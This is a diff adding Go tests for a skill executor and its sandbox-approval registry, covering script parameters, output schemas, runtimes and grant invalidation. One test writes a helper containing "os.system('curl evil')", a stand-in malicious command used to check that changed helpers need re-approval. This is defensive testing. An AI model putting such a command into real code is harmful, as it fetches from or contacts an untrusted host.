@@ -0,0 +1,320 @@
+package skill
+
+import (
+	"context"
+	"errors"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"runtime"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+
+	sandboxos "github.com/langoai/lango/internal/sandbox/os"
+)
+
+func TestExecuteScript_Params(t *testing.T) {
+	t.Parallel()
+
+	executor := newTestExecutor(t)
+	sk := SkillEntry{
+		Name: "greet",
+		Type: SkillTypeScript,
+		Definition: map[string]interface{}{
+			"script": `echo "hello $LANGO_PARAM_NAME x$LANGO_PARAM_COUNT"; cat`,
+		},
+		Parameters: map[string]interface{}{
+			"type": "object",
+			"properties": map[string]interface{}{
+				"name":  map[string]interface{}{"type": "string"},
+				"count": map[string]interface{}{"type": "integer", "default": 2},
+			},
+			"required": []interface{}{"name"},
+		},
+	}
+
+	result, err := executor.Execute(context.Background(), sk, map[string]interface{}{"name": "ada"})
+	require.NoError(t, err)
+	lines := strings.Split(strings.TrimSpace(result.(string)), "\n")
+	require.Len(t, lines, 2)
+	assert.Equal(t, "hello ada x2", lines[0])
+	assert.JSONEq(t, `{"name":"ada","count":2}`, lines[1], "params are passed as JSON on stdin")
+
+	_, err = executor.Execute(context.Background(), sk, map[string]interface{}{"count": 1})
+	require.Error(t, err)
+	assert.Contains(t, err.Error(), "invalid parameters")
+}
+
+func TestExecuteScript_OutputSchema(t *testing.T) {
+	t.Parallel()
+
+	executor := newTestExecutor(t)
+	schema := map[string]interface{}{
+		"type":       "object",
+		"properties": map[string]interface{}{"total": map[string]interface{}{"type": "number"}},
+		"required":   []interface{}{"total"},
+	}
+
+	tests := []struct {
+		give    string
+		want    interface{}
+		wantErr string
+	}{
+		{give: `echo '{"total": 3}'`, want: map[string]interface{}{"total": float64(3)}},
+		{give: `echo '{"sum": 3}'`, wantErr: "does not match schema"},
+		{give: `echo done`, wantErr: "not valid JSON"},
+	}
+	for _, tt := range tests {
+		got, err := executor.Execute(context.Background(), SkillEntry{
+			Name:         "sum",
+			Type:         SkillTypeScript,
+			Definition:   map[string]interface{}{"script": tt.give},
+			OutputSchema: schema,
+		}, nil)
+		if tt.wantErr != "" {
+			require.Error(t, err, tt.give)
+			assert.Contains(t, err.Error(), tt.wantErr)
+			continue
+		}
+		require.NoError(t, err, tt.give)
+		assert.Equal(t, tt.want, got)
+	}
+}
+
+func TestExecuteScript_Runtimes(t *testing.T) {
+	t.Parallel()
+
+	tests := []struct {
+		runtime string
+		script  string
+	}{
+		{runtime: RuntimeBash, script: `read -r line; [[ "$line" == *ok* ]] && echo ok`},
+		{runtime: RuntimePython, script: "import json, sys\nprint(json.load(sys.stdin)['v'])"},
+		{runtime: RuntimeNode, script: "let s='';process.stdin.on('data',d=>s+=d).on('end',()=>console.log(JSON.parse(s).v))"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.runtime, func(t *testing.T) {
+			t.Parallel()
+			if _, err := exec.LookPath(tt.runtime); err != nil {
+				t.Skipf("%s not installed", tt.runtime)
+			}
+			executor := newTestExecutor(t)
+			got, err := executor.Execute(context.Background(), SkillEntry{
+				Name:       "rt",
+				Type:       SkillTypeScript,
+				Definition: map[string]interface{}{"script": tt.script, "runtime": tt.runtime},
+			}, map[string]interface{}{"v": "ok"})
+			require.NoError(t, err)
+			assert.Equal(t, "ok", strings.TrimSpace(got.(string)))
+		})
+	}
+}
+
+func TestExecuteScript_BundledResources(t *testing.T) {
+	t.Parallel()
+
+	dir := t.TempDir()
+	require.NoError(t, os.MkdirAll(filepath.Join(dir, "assets"), 0o700))
+	require.NoError(t, os.WriteFile(filepath.Join(dir, "assets", "greeting.txt"), []byte("bundled"), 0o600))
+
+	executor := newTestExecutor(t)
+	got, err := executor.Execute(context.Background(), SkillEntry{
+		Name:       "res",
+		Type:       SkillTypeScript,
+		Dir:        dir,
+		Definition: map[string]interface{}{"script": `cat "$LANGO_SKILL_DIR/assets/greeting.txt"; echo; cat assets/greeting.txt`},
+	}, nil)
+	require.NoError(t, err)
+	assert.Equal(t, "bundled\nbundled", strings.TrimSpace(got.(string)))
+}
+
+func TestExecuteScript_SandboxRequest(t *testing.T) {
+	t.Parallel()
+
+	sk := SkillEntry{
+		Name:       "publish",
+		Type:       SkillTypeScript,
+		Definition: map[string]interface{}{"script": "echo published"},
+		Sandbox:    &SandboxRequest{WritePaths: []string{"/tmp/reports"}, Network: []string{"*"}},
+	}
+
+	t.Run("bare executor denies", func(t *testing.T) {
+		t.Parallel()
+		_, err := newTestExecutor(t).Execute(context.Background(), sk, nil)
+		assert.ErrorIs(t, err, ErrSandboxNotApproved)
+	})
+
+	t.Run("approved policy applied", func(t *testing.T) {
+		t.Parallel()
+		executor := newTestExecutor(t)
+		iso := &mockIsolator{available: true}
+		executor.SetOSIsolator(iso, t.TempDir(), "")
+		executor.sandboxCheck = func(context.Context, SkillEntry) error { return nil }
+
+		_, err := executor.Execute(context.Background(), sk, nil)
+		require.NoError(t, err)
+		assert.Contains(t, iso.policy.Filesystem.WritePaths, "/tmp/reports")
+		assert.Equal(t, sandboxos.NetworkAllow, iso.policy.Network)
+	})
+}
+
+func TestRegistry_SandboxApproval(t *testing.T) {
+	t.Parallel()
+
+	ctx := context.Background()
+	registry := newTestRegistry(t)
+	sk := SkillEntry{
+		Name:       "sync",
+		Type:       SkillTypeScript,
+		Definition: map[string]interface{}{"script": "echo synced"},
+		Sandbox:    &SandboxRequest{Network: []string{"api.example.com"}},
+	}
+	require.NoError(t, registry.CreateSkill(ctx, sk))
+
+	// Without an approver the request cannot be granted.
+	err := registry.ActivateSkill(ctx, "sync")
+	assert.ErrorIs(t, err, ErrSandboxNotApproved)
+
+	prompts := 0
+	approve := false
+	registry.SetSandboxApprover(func(_ context.Context, got SkillEntry) (bool, error) {
+		prompts++
+		assert.Equal(t, "sync", got.Name)
+		return approve, nil
+	})
+
+	err = registry.ActivateSkill(ctx, "sync")
+	assert.ErrorIs(t, err, ErrSandboxNotApproved)
+	assert.Empty(t, registry.LoadedSkills(), "denied skill stays inactive")
+
+	approve = true
+	require.NoError(t, registry.ActivateSkill(ctx, "sync"))
+	require.NoError(t, registry.ActivateSkill(ctx, "sync"))
+	assert.Equal(t, 2, prompts, "an approval is remembered")
+
+	// Editing the script invalidates the grant.
+	sk.Definition = map[string]interface{}{"script": "echo changed"}
+	require.NoError(t, registry.CreateSkill(ctx, sk))
+	approve = false
+	err = registry.ActivateSkill(ctx, "sync")
+	assert.True(t, errors.Is(err, ErrSandboxNotApproved))
+	assert.Equal(t, 3, prompts)
+}
+
+func TestRegistry_SandboxApproval_ResourceChange(t *testing.T) {
+	t.Parallel()
+
+	ctx := context.Background()
+	registry := newTestRegistry(t)
+	sk := SkillEntry{
+		Name:       "sync",
+		Type:       SkillTypeScript,
+		Definition: map[string]interface{}{"script": "python3 run.py", "runtime": "sh"},
+		Sandbox:    &SandboxRequest{Network: []string{"api.example.com"}},
+	}
+	require.NoError(t, registry.CreateSkill(ctx, sk))
+	loaded, err := registry.store.Get(ctx, "sync")
+	require.NoError(t, err)
+	require.NotEmpty(t, loaded.Dir)
+	helper := filepath.Join(loaded.Dir, "run.py")
+	require.NoError(t, os.WriteFile(helper, []byte("print('sync')\n"), 0o600))
+
+	prompts := 0
+	registry.SetSandboxApprover(func(context.Context, SkillEntry) (bool, error) {
+		prompts++
+		return prompts == 1, nil
+	})
+	require.NoError(t, registry.ActivateSkill(ctx, "sync"))
+	require.NoError(t, registry.ActivateSkill(ctx, "sync"))
+	assert.Equal(t, 1, prompts)
+
+	// Replacing a bundled helper keeps the script text but needs a new grant.
+	require.NoError(t, os.WriteFile(helper, []byte("import os; os.system('curl evil')\n"), 0o600))
+	err = registry.ActivateSkill(ctx, "sync")
+	assert.ErrorIs(t, err, ErrSandboxNotApproved)
+	assert.Equal(t, 2, prompts)
+}
+
+func TestSandboxRequest_Summary(t *testing.T) {
+	// Not parallel: toggles the package-level platform capability.
+	defer func(v bool) { hostFilteringSupported = v }(hostFilteringSupported)
+
+	tests := []struct {
+		give      *SandboxRequest
+		filtering bool
+		want      string
+	}{
+		{give: nil, want: "default sandbox"},
+		{give: &SandboxRequest{WritePaths: []string{"/tmp/out"}}, want: "write /tmp/out"},
+		{give: &SandboxRequest{Network: []string{"api.example.com"}}, filtering: true, want: "network api.example.com"},
+		{give: &SandboxRequest{Network: []string{"*"}}, filtering: true, want: "unrestricted network"},
+		{
+			give: &SandboxRequest{Network: []string{"api.example.com"}},
+			want: "unrestricted network (requested api.example.com; host allowlists cannot be enforced on " + runtime.GOOS + ")",
+		},
+	}
+
+	for _, tt := range tests {
+		hostFilteringSupported = tt.filtering
+		assert.Equal(t, tt.want, tt.give.Summary())
+		assert.Equal(t, strings.HasPrefix(tt.want, "unrestricted"), tt.give.UnrestrictedNetwork())
+	}
+}
+
+func TestRegistry_SandboxApproval_PromptDoesNotBlock(t *testing.T) {
+	t.Parallel()
+
+	ctx := context.Background()
+	registry := newTestRegistry(t)
+	sk := SkillEntry{
+		Name:       "slow",
+		Type:       SkillTypeScript,
+		Definition: map[string]interface{}{"script": "echo slow"},
+		Sandbox:    &SandboxRequest{WritePaths: []string{"/tmp/slow"}},
+	}
+	require.NoError(t, registry.CreateSkill(ctx, sk))
+
+	// While one prompt waits on the user, other grant checks proceed.
+	registry.SetSandboxApprover(func(ctx context.Context, _ SkillEntry) (bool, error) {
+		done := make(chan error, 1)
+		go func() {
+			_, err := registry.sandboxGrant(ctx, "other")
+			done <- err
+		}()
+		select {
+		case err := <-done:
+			return err == nil, err
+		case <-time.After(2 * time.Second):
+			return false, errors.New("grant lock held during prompt")
+		}
+	})
+	require.NoError(t, registry.ActivateSkill(ctx, "slow"))
+}
+
+func TestRegistry_CreateSkill_ScriptValidation(t *testing.T) {
+	t.Parallel()
+
+	registry := newTestRegistry(t)
+	ctx := context.Background()
+
+	err := registry.CreateSkill(ctx, SkillEntry{
+		Name:       "ruby",
+		Type:       SkillTypeScript,
+		Definition: map[string]interface{}{"script": "puts 1", "runtime": "ruby"},
+	})
+	require.Error(t, err)
+	assert.Contains(t, err.Error(), "unsupported script runtime")
+
+	err = registry.CreateSkill(ctx, SkillEntry{
+		Name:         "bad-output",
+		Type:         SkillTypeScript,
+		Definition:   map[string]interface{}{"script": "echo 1"},
+		OutputSchema: map[string]interface{}{"type": 5},
+	})
+	require.Error(t, err)
+	assert.Contains(t, err.Error(), "invalid output schema")
+}